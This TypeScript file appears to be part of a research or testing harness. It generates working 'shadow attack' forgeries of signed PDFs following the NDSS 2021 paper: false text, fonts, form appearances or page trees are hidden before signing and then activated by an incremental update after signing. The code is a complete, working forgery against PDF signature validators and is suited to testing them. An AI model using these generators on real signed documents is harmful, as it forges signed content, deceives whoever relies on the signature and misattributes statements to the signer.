/**
 * Shadow Attacks. Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks: Hiding and Replacing Content
 * in Signed PDFs", NDSS 2021 (the RUB-NDS/pdf-attacker notebooks build every variant).
 *
 * What we learned. The attacker prepares the document *before* it is signed: the false content is
 * already in the bytes the victim signs, invisible (covered by an overlay, or in objects nothing
 * reaches). After signing, a small incremental update activates it, and because the update adds no
 * new content (sometimes no new object at all) viewers that accept "harmless" updates show the false
 * document with a valid signature. Three classes:
 *  - hide: an overlay in the signed document covers the false content; the update removes the overlay
 *    from the page, or only re-points the overlay's cross-reference entry at a shadow body of the same
 *    object number already in the signed bytes (the update is an xref table and a trailer, nothing
 *    else);
 *  - replace: a resource the page draws with (a font, a form field's appearance) is switched to a
 *    shadow version already in the signed bytes: the same content stream then reads differently;
 *  - hide-and-replace: the signed file holds a whole second catalog or page tree with the false pages;
 *    the update changes only the trailer's /Root, or the /Pages object's xref entry.
 * The countermeasure the paper gives: resolve every object the signed revision used, through the
 * signed revision's cross-reference, and the same object through the latest one, and compare the
 * objects, not the update's size; a cross-reference entry that points back into signed bytes is as
 * much a change as a new body. (pdf-lib's parser, which keeps the last body in the file and ignores
 * the cross-reference, is exactly the wrong model for this; see differential.ts.)
 *
 * Preparing: the shadow body of an object must come *before* its live body in the file (the signer,
 * pdf-lib, keeps the last body it reads; the viewer follows the cross-reference to the live one).
 */
import type { Genuine } from './genuine';
import { FALSE_RECT, FALSE_TEXT, appearance, contentsOf, pageWithFont, refArray, rewritten, whiteBoxWithText } from './forge';
import { GENUINE_OPINION, OPINION_FIELD, withOpinionField } from './formField';
import { appendUpdate, bodyOffsets, mapDocument, rawBody, ref, type ObjectDef } from './pdfWriter';

/** The offset of the shadow body of `num`: the one just before its live (last) body in the signed file. */
function shadowOffset(signed: Uint8Array, num: number): number {
  const shadow = bodyOffsets(signed, num).at(-2);
  if (shadow === undefined) throw new Error(`object ${String(num)} has no shadow body`);
  return shadow;
}

/**
 * Page 1 prepared for the hide variants: its content draws the false finding, then a cover stream
 * (a white box and the genuine opinion) over it; a shadow body of the cover stream (empty) precedes
 * the live one. Returns the document to sign and the cover's number.
 */
function preparedHide(unsigned: Uint8Array): { readonly pdf: Uint8Array; readonly cover: number; readonly page: number; readonly streams: readonly number[] } {
  const map = mapDocument(unsigned);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [open, payload, cover] = [map.next, map.next + 1, map.next + 2];
  const own = contentsOf(unsigned, page);
  const objects: ObjectDef[] = [
    { num: open, body: { data: 'q\n' } },
    { num: payload, body: { data: `Q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}`, compress: true } },
    { num: cover, orphan: true, body: { data: '% the cover, as it will be after signing: nothing\n' } },
    { num: cover, body: { data: whiteBoxWithText(FALSE_RECT, GENUINE_OPINION), compress: true } },
    pageWithFont(unsigned, page, { Contents: refArray([open, ...own, payload, cover]) }),
  ];
  return { pdf: appendUpdate(unsigned, { objects }), cover, page, streams: [open, ...own, payload] };
}

/** Hide, pure shadow: the update is an xref table re-pointing the cover stream at its empty shadow body, and a trailer. */
export async function shadowHideXrefOnly(g: Genuine): Promise<Uint8Array> {
  const prepared = preparedHide(g.unsigned);
  const signed = await g.certify(prepared.pdf);
  return appendUpdate(signed, { repoint: [{ num: prepared.cover, offset: shadowOffset(signed, prepared.cover) }] });
}

/** Hide: the update rewrites page 1 without the cover stream. */
export async function shadowHideOverlayRemoved(g: Genuine): Promise<Uint8Array> {
  const prepared = preparedHide(g.unsigned);
  const signed = await g.certify(prepared.pdf);
  return appendUpdate(signed, { objects: [rewritten(signed, prepared.page, { Contents: refArray(prepared.streams) })] });
}

/** A simple font whose codes 1…n are the glyphs of `text` (padded with spaces to n). */
function codedFont(text: string, n: number): string {
  const glyph = (c: string): string => (c === ' ' ? '/space' : /^[A-Za-z]$/.test(c) ? `/${c}` : '/space');
  const names = text.padEnd(n, ' ').split('').map(glyph);
  return `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [1 ${names.join(' ')}] >> >>`;
}

/** Replace, font: page 1 draws codes 1…n with a font whose live body spells the genuine opinion and whose shadow body spells the false one; the update re-points the font. */
export async function shadowReplaceFont(g: Genuine): Promise<Uint8Array> {
  const unsigned = g.unsigned;
  const map = mapDocument(unsigned);
  const page = map.pageNums[0] ?? 0;
  const n = Math.max(FALSE_TEXT.length, GENUINE_OPINION.length);
  const [open, payload, font] = [map.next, map.next + 1, map.next + 2];
  const codes = Array.from({ length: n }, (_, i) => (i + 1).toString(16).padStart(2, '0')).join('');
  const [x1, y1, x2, y2] = FALSE_RECT;
  const draw = `Q\nq 1 1 1 rg ${String(x1)} ${String(y1)} ${String(x2 - x1)} ${String(y2 - y1)} re f Q\nBT 0 0 0 rg /FAtt 13 Tf ${String(x1 + 4)} ${String(y1 + 6)} Td <${codes}> Tj ET\n`;
  const prepared = appendUpdate(unsigned, {
    objects: [
      { num: font, orphan: true, body: codedFont(FALSE_TEXT, n) },
      { num: font, body: codedFont(GENUINE_OPINION, n) },
      { num: open, body: { data: 'q\n' } },
      { num: payload, body: { data: draw, compress: true } },
      pageWithFont(unsigned, page, { Contents: refArray([open, ...contentsOf(unsigned, page), payload]) }, ref(font)),
    ],
  });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { repoint: [{ num: font, offset: shadowOffset(signed, font) }] });
}

/** Replace, form: the Opinion field's appearance stream re-pointed at a shadow appearance that paints the false opinion (its /V unchanged). */
export async function shadowReplaceFormAppearance(g: Genuine): Promise<Uint8Array> {
  let apNum = 0;
  const prepared = withOpinionField(g.unsigned, ({ ap }) => {
    apNum = ap;
    return [{ num: ap, orphan: true, body: appearance(FALSE_RECT, FALSE_TEXT) }];
  });
  const signed = await g.certify(prepared);
  if (!mapDocument(signed).fields.has(OPINION_FIELD)) throw new Error('no Opinion field');
  return appendUpdate(signed, { repoint: [{ num: apNum, offset: shadowOffset(signed, apNum) }] });
}

/**
 * The shadow document for hide-and-replace: page 1' (page 1 drawing the false finding over its own
 * content), a page tree listing it instead of page 1, and optionally a catalog for that tree.
 */
function shadowDocument(unsigned: Uint8Array, first: number, pagesNum: number): { readonly objects: ObjectDef[]; readonly next: number } {
  const map = mapDocument(unsigned);
  const page = map.pageNums[0] ?? 0;
  const [open, payload, shadowPage] = [first, first + 1, first + 2];
  const pageDef = pageWithFont(unsigned, page, { Contents: refArray([open, ...contentsOf(unsigned, page), payload]), Parent: ref(pagesNum) });
  const objects: ObjectDef[] = [
    { num: open, body: { data: 'q\n' } },
    { num: payload, body: { data: `Q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}`, compress: true } },
    { num: shadowPage, body: pageDef.body },
  ];
  const kids = [shadowPage, ...map.pageNums.slice(1)];
  objects.push({ num: pagesNum, body: rewritten(unsigned, map.pages, { Kids: refArray(kids) }).body });
  return { objects, next: first + 3 };
}

/** Hide-and-replace, root: the signed file holds a second catalog and page tree; the update is an xref and a trailer whose /Root is the shadow catalog. */
export async function shadowHideAndReplaceRoot(g: Genuine): Promise<Uint8Array> {
  const unsigned = g.unsigned;
  const map = mapDocument(unsigned);
  const pagesNum = map.next;
  const shadow = shadowDocument(unsigned, map.next + 1, pagesNum);
  const catalogNum = shadow.next;
  // The shadow catalog shares the report's AcroForm (its prepared fields), which the signature then
  // rewrites in place: the shadow document shows Alice's signature too.
  const acroForm = map.acroForm;
  if (acroForm === null) throw new Error('the report has no prepared AcroForm');
  const objects = [...shadow.objects, { num: catalogNum, body: rewritten(unsigned, map.root, { Pages: ref(pagesNum) }).body }];
  const signed = await g.certify(appendUpdate(unsigned, { objects }));
  if (mapDocument(signed).acroForm !== acroForm) throw new Error('the signature moved the AcroForm');
  return appendUpdate(signed, { trailer: { root: ref(catalogNum) } });
}

/** Hide-and-replace, page tree: a shadow body of the /Pages object (listing the false page 1) precedes the live one; the update only re-points /Pages at it. */
export async function shadowHideAndReplacePages(g: Genuine): Promise<Uint8Array> {
  const unsigned = g.unsigned;
  const map = mapDocument(unsigned);
  const shadow = shadowDocument(unsigned, map.next, map.pages);
  const shadowPages = shadow.objects.find((o) => o.num === map.pages);
  if (shadowPages === undefined) throw new Error('no shadow page tree');
  const objects: ObjectDef[] = [
    ...shadow.objects.filter((o) => o.num !== map.pages),
    { num: map.pages, orphan: true, body: shadowPages.body },
    { num: map.pages, body: rawBody(unsigned, map.pages) },
  ];
  const signed = await g.certify(appendUpdate(unsigned, { objects }));
  return appendUpdate(signed, { repoint: [{ num: map.pages, offset: shadowOffset(signed, map.pages) }] });
}

